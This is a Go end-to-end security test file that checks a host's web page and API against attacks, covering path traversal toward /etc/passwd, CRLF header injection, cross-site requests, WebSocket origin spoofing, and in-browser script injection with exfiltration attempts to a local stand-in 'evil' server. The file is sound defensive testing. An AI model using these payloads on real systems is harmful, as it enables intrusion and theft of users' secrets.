package e2e

import (
	"bufio"
	"context"
	"crypto/tls"
	"fmt"
	"image"
	"image/png"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"github.com/coder/websocket"
)

// raw sends bytes to the host, and returns its answer: a client of Go's would mend the request.
func (h *host) raw(t *testing.T, head string) *http.Response {
	t.Helper()
	c, err := tls.DialWithDialer(&net.Dialer{Timeout: waitTimeout}, "tcp", h.listen, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"http/1.1"}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	if err := c.SetDeadline(time.Now().Add(waitTimeout)); err != nil {
		t.Fatal(err)
	}
	fmt.Fprint(c, head)
	answer, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatalf("%q: %v", head, err)
	}
	return answer
}

// A page of another site, or whoever can send a request, gets nothing of a host's page and of the API behind it that is not everybody's.
func TestAttacksOnTheWebPage(t *testing.T) {
	h := up(t, "--gpus", "none")
	const socket = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
	session := "/v1/data-channel/ecs-execute-command-" + strings.Repeat("0", 64)
	none := func(*http.Response) bool { return true }
	stays := func(r *http.Response) bool { // it leads to a path of this host, where a key is asked for
		to := r.Header.Get("Location")
		return strings.HasPrefix(to, "/") && !strings.HasPrefix(to, "//") && !strings.HasPrefix(to, `/\`)
	}
	without := func(header string) func(*http.Response) bool {
		return func(r *http.Response) bool { return r.Header.Get(header) == "" }
	}
	with := func(header, value string) func(*http.Response) bool {
		return func(r *http.Response) bool { return strings.Contains(r.Header.Get(header), value) }
	}
	for name, c := range map[string]struct {
		request, more string // first line, and header fields and body
		status        []int
		and           func(*http.Response) bool
	}{
		"a path out of the page":                      {"GET /ui/../v1/hosts", "", []int{307}, stays},
		"an encoded path out of the page":             {"GET /ui/..%2f..%2fetc%2fpasswd", "", []int{404}, none},
		"a backslash":                                 {`GET /ui/..\..\etc\passwd`, "", []int{400, 404}, none},
		"a path of the program's own files":           {"GET /ui/README.md", "", []int{404}, none},
		"an absolute path":                            {"GET /ui//etc/passwd", "", []int{307}, stays},
		"a zero in a path":                            {"GET /ui/index.html%00.js", "", []int{404}, none},
		"a new line in a path":                        {"GET /ui/%0d%0aSet-Cookie:%20a=b", "", []int{404}, without("Set-Cookie")},
		"a new line in the query":                     {"GET /?a=%0d%0aLocation:%20https://evil.example", "Accept: text/html\r\n", []int{302}, with("Location", "/ui/")},
		"another site as the path":                    {"GET //evil.example/ui/", "Accept: text/html\r\n", []int{307}, stays},
		"markup in a path comes back as no page":      {"GET /ui/<script>hacked=1</script>", "", []int{400, 404}, func(r *http.Response) bool { return !strings.Contains(r.Header.Get("Content-Type"), "html") }},
		"markup in the query comes back as no page":   {"GET /v1/hosts?cluster=<script>hacked=1</script>", "", []int{400, 403}, func(r *http.Response) bool { return !strings.Contains(r.Header.Get("Content-Type"), "html") }},
		"a form of another site":                      {"POST /v1/StopTask", "Origin: https://evil.example\r\nContent-Type: text/plain\r\nContent-Length: 11\r\n\r\n{\"task\":\"a\"}", []int{400, 403}, none},
		"a form of another site that has a cookie":    {"POST /v1/StopTask", "Cookie: session=admin; key=AKIA\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 3\r\n\r\na=b", []int{400, 403}, without("Set-Cookie")},
		"a script of another site asks first":         {"OPTIONS /v1/StopTask", "Origin: https://evil.example\r\nAccess-Control-Request-Method: POST\r\nAccess-Control-Request-Headers: authorization\r\n", []int{403, 404, 405}, without("Access-Control-Allow-Origin")},
		"a script of another site reads":              {"GET /v1/version", "Origin: https://evil.example\r\n", []int{200, 403}, without("Access-Control-Allow-Origin")},
		"a script of another site reads the page":     {"GET /ui/", "Origin: https://evil.example\r\n", []int{200}, with("Cross-Origin-Resource-Policy", "same-origin")},
		"another method by a header":                  {"GET /v1/StopTask", "X-HTTP-Method-Override: POST\r\nX-Method-Override: POST\r\n", []int{403, 404, 405}, none},
		"a key in the address":                        {"GET /v1/hosts?AWSAccessKeyId=AKIA&Signature=x&Authorization=Bearer%20AKIA:x", "", []int{400, 403}, none},
		"a key of no form":                            {"GET /v1/hosts", "Authorization: AWS4-HMAC-SHA256 Credential=\x7f/../, SignedHeaders=, Signature=\r\n", []int{400, 403}, none},
		"the page in a frame":                         {"GET /ui/", "", []int{200}, with("Content-Security-Policy", "frame-ancestors 'none'")},
		"the page in a frame of an old browser":       {"GET /ui/", "", []int{200}, with("X-Frame-Options", "DENY")},
		"a file taken for another type":               {"GET /ui/icon.svg", "", []int{200}, with("X-Content-Type-Options", "nosniff")},
		"a window that opened the page":               {"GET /ui/", "", []int{200}, with("Cross-Origin-Opener-Policy", "same-origin")},
		"an old page from a cache":                    {"GET /ui/", "", []int{200}, with("Cache-Control", "no-cache")},
		"a socket of another site":                    {"GET " + session, socket + "Origin: https://evil.example\r\n", []int{403}, none},
		"a socket of a site with a name like this":    {"GET " + session, socket + "Origin: https://" + h.listen + ".evil.example\r\n", []int{403}, none},
		"a socket of another port":                    {"GET " + session, socket + "Origin: https://127.0.0.1:1\r\n", []int{403}, none},
		"a socket of a page without a site":           {"GET " + session, socket + "Origin: null\r\n", []int{403}, none},
		"a socket to no session":                      {"GET /v1/data-channel/..%2f..%2fv1%2fhosts", socket, []int{400, 403, 404}, none},
		"a trace of what a browser adds to a request": {"TRACE /ui/", "Authorization: Bearer AKIA:secret\r\n", []int{400, 403, 404, 405}, none},
	} {
		t.Run(name, func(t *testing.T) {
			head, body, _ := strings.Cut(c.more, "\r\n\r\n")
			answer := h.raw(t, c.request+" HTTP/1.1\r\nHost: "+h.listen+"\r\n"+strings.TrimSuffix(head, "\r\n")+map[bool]string{true: "\r\n"}[head != ""]+"\r\n"+body)
			if !slices.Contains(c.status, answer.StatusCode) || !c.and(answer) {
				t.Errorf("%s: %v", answer.Status, answer.Header)
			}
		})
	}
}

// evilSite is another site, whose addresses let everybody in, and which counts its requests.
type evilSite struct {
	*httptest.Server
	requests atomic.Int64
}

func newEvilSite(t *testing.T) *evilSite {
	e := &evilSite{}
	e.Server = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		e.requests.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		switch r.URL.Path {
		case "/x.js":
			w.Header().Set("Content-Type", "text/javascript")
		case "/x.png":
			w.Header().Set("Content-Type", "image/png")
			_ = png.Encode(w, image.NewGray(image.Rect(0, 0, 1, 1)))
		case "/socket":
			if c, err := websocket.Accept(w, r, &websocket.AcceptOptions{InsecureSkipVerify: true}); err == nil {
				c.CloseNow()
			}
		default:
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, "<!doctype html><title>evil</title><body>")
		}
	}))
	t.Cleanup(e.Close)
	return e
}

// injected is what runs where somebody can write into a page. Each is true when it was in vain.
var injected = map[string]string{
	"a script in the page":           `(() => { const s = document.createElement('script'); s.textContent = 'window.hacked = 1'; document.body.append(s); return !window.hacked })()`,
	"a script of another site":       `new Promise(done => { const s = document.createElement('script'); s.src = EVIL + '/x.js'; s.onload = () => done(false); s.onerror = () => done(true); document.body.append(s) })`,
	"an attribute that is a program": `(() => { const b = document.createElement('b'); b.setAttribute('onclick', 'window.hacked = 1'); document.body.append(b); b.click(); return !window.hacked })()`,
	"an address that is a program":   `new Promise(done => { const a = document.createElement('a'); a.href = 'javascript:void(window.hacked = 1)'; document.body.append(a); a.click(); setTimeout(() => done(!window.hacked), 200) })`,
	"a frame with a program":         `new Promise(done => { const f = document.createElement('iframe'); f.srcdoc = '<script>parent.hacked = 1</scr' + 'ipt>'; document.body.append(f); setTimeout(() => { f.remove(); done(!window.hacked) }, 200) })`,
	"what is read goes elsewhere":    `fetch(EVIL).then(() => false, () => true)`,
	"or by a picture":                `new Promise(done => { const i = new Image(); i.onload = () => done(false); i.onerror = () => done(true); i.src = EVIL + '/x.png' })`,
	"or by a socket":                 `new Promise(done => { const s = (() => { try { return new WebSocket(EVIL.replace('https', 'wss') + '/socket') } catch { return null } })(); if (!s) return done(true); s.onopen = () => done(false); s.onerror = () => done(true) })`,
	"or by a style":                  `(() => { const b = document.createElement('b'); b.setAttribute('style', 'background: url(' + EVIL + ')'); document.body.append(b); return !b.style.background })()`,
}

// kept is what a script in the page could find of the user's secret. Each is true when that is nothing.
var kept = map[string]string{
	"the secret is kept nowhere":       `new Promise(done => { const open = indexedDB.open('pinion'); open.onsuccess = () => { const got = open.result.transaction('session').objectStore('session').getAll(); got.onsuccess = () => done(!(JSON.stringify(got.result) + JSON.stringify(localStorage) + JSON.stringify(sessionStorage) + location.href + document.documentElement.outerHTML + document.cookie + history.state).includes(SECRET)) } })`,
	"the keys made of it are readable": `new Promise(done => { const open = indexedDB.open('pinion'); open.onsuccess = () => { const got = open.result.transaction('session').objectStore('session').getAll(); got.onsuccess = () => { const keys = Object.values(got.result[0].keys); Promise.allSettled(keys.map(k => crypto.subtle.exportKey('raw', k))).then(all => done(keys.length > 0 && all.every(a => a.status === 'rejected'))) } } })`,
}

// fromElsewhere is what a page of another site tries. Each is true when it was in vain.
var fromElsewhere = map[string]string{
	"it reads the API":                          `fetch(HOST + '/v1/version').then(() => false, () => true)`,
	"it reads the page":                         `fetch(HOST + '/ui/').then(() => false, () => true)`,
	"it runs the page":                          `new Promise(done => { const s = document.createElement('script'); s.src = HOST + '/ui/icon.svg'; s.onload = () => done(false); s.onerror = () => done(true); document.body.append(s) })`,
	"it shows the icon":                         `new Promise(done => { const i = new Image(); i.onload = () => done(false); i.onerror = () => done(true); i.src = HOST + '/ui/icon.svg' })`,
	"it opens a socket":                         `new Promise(done => { const s = new WebSocket(HOST.replace('https', 'wss') + '/v1/data-channel/ecs-execute-command-' + '0'.repeat(64)); s.onopen = () => done(false); s.onerror = () => done(true) })`,
	"it keeps a hand on a window with the page": `new Promise(done => { const w = open(HOST + '/ui/'); setTimeout(() => done(!w || w.closed), 1500) })`,
}

// frames has the page show addresses in frames, and returns those that it shows.
func (p *page) frames(addresses ...string) (shown []string) {
	p.Helper()
	for _, address := range addresses {
		p.resolves(`new Promise(done => { const f = document.createElement('iframe'); f.src = ` + quoted(address) + `; f.onload = () => done(true); document.body.append(f) })`)
	}
	p.do(chromedp.ActionFunc(func(ctx context.Context) error {
		tree, err := cdppage.GetFrameTree().Do(ctx)
		if err == nil {
			for _, child := range tree.ChildFrames {
				shown = append(shown, child.Frame.URL)
			}
		}
		return err
	}))
	return shown
}

// In a browser that is signed in, a page of another site reads and does nothing with the host, and whoever can write something into the host's own page
// runs nothing there, sends nothing elsewhere, and finds no secret.
func TestAttacksInTheBrowser(t *testing.T) {
	h := up(t, "--gpus", "none")
	evil := newEvilSite(t)
	p := open(t, h)
	id, secret := h.makeKey(t, "admin")
	p.signIn(id, secret)
	p.waits("document.querySelector('.cells, .figures')")
	values := strings.NewReplacer("EVIL", quoted(evil.URL), "SECRET", quoted(secret), "HOST", quoted("https://"+h.listen))
	vain := func(attack string) bool { return p.resolves("(window.hacked = 0, " + values.Replace(attack) + ")") }

	for name, attack := range injected {
		if !vain(attack) {
			t.Errorf("in the page itself: %s", name)
		}
	}
	for name, attack := range kept {
		if !vain(attack) {
			t.Errorf("of the secret: %s", name)
		}
	}
	if n := evil.requests.Load(); n > 0 {
		t.Errorf("%d requests of the page to another site", n)
	}
	if strings.Contains(h.output.String(), secret) {
		t.Error("the secret is in the log of the host")
	}

	p.do(chromedp.Navigate(strings.Replace(evil.URL, "127.0.0.1", "localhost", 1))) // a page that has no policy
	for name, attack := range injected {
		if vain(attack) {
			t.Errorf("%s works nowhere, and shows nothing of the host's page", name)
		}
	}
	p.do(chromedp.Navigate(evil.URL))
	for name, attack := range fromElsewhere {
		if !vain(attack) {
			t.Errorf("of a page of another site: %s", name)
		}
	}
	if shown := p.frames("https://"+h.listen+"/ui/", evil.URL+"/framed"); !slices.Contains(shown, evil.URL+"/framed") || slices.Contains(shown, "https://"+h.listen+"/ui/") {
		t.Errorf("a page of another site has these in frames: %q", shown)
	}
	p.forget() // what the browser says of what it refuses
}
